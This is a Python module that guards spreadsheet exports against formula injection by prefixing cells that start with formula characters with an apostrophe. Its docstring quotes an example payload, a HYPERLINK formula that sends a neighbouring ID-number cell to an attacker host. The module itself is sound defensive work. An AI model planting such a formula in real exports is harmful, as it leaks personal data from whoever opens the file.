"""Spreadsheet exports that can't run formulas (CSV/XLSX injection, issue 15 item 10).

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some programs skip before one of those) is run as a formula by Excel, LibreOffice and Google
Sheets: a participant's name typed as ``=HYPERLINK("http://evil.example/?"&A2, "klik")``
would send a neighbour cell (a NIK) away when an operator opens the export. Every text cell of
every CSV or XLSX Purna writes goes through :func:`neutralise`, which prefixes such a value with
an apostrophe, the spreadsheet convention for "this is text" (OWASP's recommendation).
Numbers stay numbers; only text is touched.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

#: first characters that make a spreadsheet read a cell as a formula (the fullwidth forms too:
#: some programs fold them)
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def neutralise(value: Any) -> Any:
    """``value`` with a leading apostrophe when it is text a spreadsheet would run."""
    if isinstance(value, str) and value and value.lstrip(" ")[:1] in FORMULA_STARTS:
        return "'" + value
    return value


def neutralise_row(values: Iterable[Any]) -> list[Any]:
    return [neutralise(v) for v in values]


class SafeCsvWriter:
    """``csv.writer`` whose rows are neutralised first; use it for every CSV export."""

    def __init__(self, out: IO[str], **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(neutralise_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
